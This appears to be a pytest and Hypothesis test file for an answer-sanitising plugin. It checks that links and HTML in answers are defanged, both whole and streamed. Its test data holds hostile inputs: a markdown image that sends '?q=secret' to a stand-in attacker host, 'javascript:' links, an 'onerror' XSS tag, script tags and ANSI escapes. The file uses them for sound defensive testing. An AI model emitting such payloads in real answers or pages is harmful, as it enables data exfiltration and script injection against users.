"""Answers in which nothing is loaded, opened or executed, whole and streamed."""

from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ingest.documents import Chunk, Document
from qa.plugins.plain_answer import plain_answer
from qa.turn import Turn
from retrieval.hits import Hit
from tests.contracts.plugin_contract import saying

TEXT = "The portal is https://portal.example/leave?from=handbook. ![logo](http://evil.example/x)"
DOCUMENT = Document.from_text(TEXT, uri="a.md")
HITS = (Hit(Chunk(DOCUMENT.id, "a.md", "", 0, len(TEXT), TEXT), 0.9),)
ALPHABET = st.sampled_from([
    "https://", "http:", "/", "www", ".", "evil.example", "h", "t", "!", "[", "]", "(", ")", "1",
    "a", " ", "\n", "\r", "<", "img", "src=", ">", "</a", "。", "ftp://x", "\x1b[0m",
])  # fmt: skip


def answered(text: str, *, sizes: int | None = None) -> tuple[str, str]:
    tokens: list[str] = []
    turn = Turn("What is on https://asked.example/?", hits=HITS, on_token=tokens.append)
    if sizes is None:
        return plain_answer(replace(turn, on_token=None), saying(text)).text, ""
    return plain_answer(turn, saying(text, sizes)).text, "".join(tokens)


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("![x](http://evil.example/?q=secret)", "[x] (hxxp://evil[.]example/?q=secret)"),
        ("[click](javascript:alert(1)) [1].", "[click] (javascript:alert(1)) [1]."),
        ("See https://portal.example/leave?from=handbook.", None),
        ("See https://asked.example/", None),
        ("https://portal.example/leave?from=me", "hxxps://portal[.]example/leave?from=me"),
        ("https://evil.example/?to=https://x.y/z", "hxxps://evil[.]example/?to=https://x.y/z"),
        ("<http://evil.example>", "<hxxp://evil[.]example>"),
        ("![a][b]\n\n[b]: http://evil.example/a.b", "[a][b]\n\n[b]: hxxp://evil[.]example/a.b"),
        ("<img src=x onerror=alert(1)><b>25</b>", "‹img src=x onerror=alert(1)><b>25</b>"),
        ("<SCRIPT>x</SCRIPT>", "‹SCRIPT>x‹/SCRIPT>"),
        ("www.evil.example/q，好", "www[.]evil[.]example/q，好"),
        ("It works![1] Really! [2]", None),
        ("a < b, List<String>, <article>, `x[i]`", None),
        ("red \x1b[31mtext\x1b[0m", "red [31mtext[0m"),
    ],
)
def test_what_acts_becomes_text(said: str, shown: str | None) -> None:
    assert answered(said)[0] == (said if shown is None else shown)


@given(st.lists(ALPHABET, max_size=14).map("".join), st.integers(1, 5))
def test_streaming_changes_nothing(text: str, size: int) -> None:
    whole, _ = answered(text)
    streamed, tokens = answered(text, sizes=size)
    assert tokens == streamed == whole
    assert "](" not in whole
    assert "https://evil" not in whole


def test_a_token_without_anything_to_edit_goes_through_at_once() -> None:
    tokens: list[str] = []
    seen: list[int] = []

    def inner(turn: Turn) -> Turn:
        assert turn.on_token
        for token in ("You have", " 25 days", " of leave."):
            turn.on_token(token)
            seen.append(len(tokens))
        return turn

    plain_answer(Turn("q", on_token=tokens.append), inner)
    assert seen == [1, 2, 3]
